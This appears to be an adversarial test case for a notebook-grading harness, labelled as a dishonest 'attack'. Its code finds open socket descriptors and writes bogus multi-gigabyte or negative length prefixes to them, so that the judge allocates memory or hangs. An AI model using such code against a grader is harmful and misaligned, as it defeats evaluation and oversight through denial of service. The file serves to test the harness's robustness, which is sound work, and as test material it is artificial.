# attack: A message of four gigabytes is announced
# tries: Writes length prefixes of 4 GiB, and then nothing, so that the judge allocates or waits for ever.
# honest: 0
# limits: cell_seconds 3, notebook_seconds 20

# %% answer="number"
import os
import stat
import struct

amplitudes = 1
for number in range(1024):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            for prefix in (struct.pack(">I", 2**32 - 1), struct.pack("<Q", 2**63), struct.pack(">i", -1)):
                os.write(number, prefix)
    except OSError:
        pass
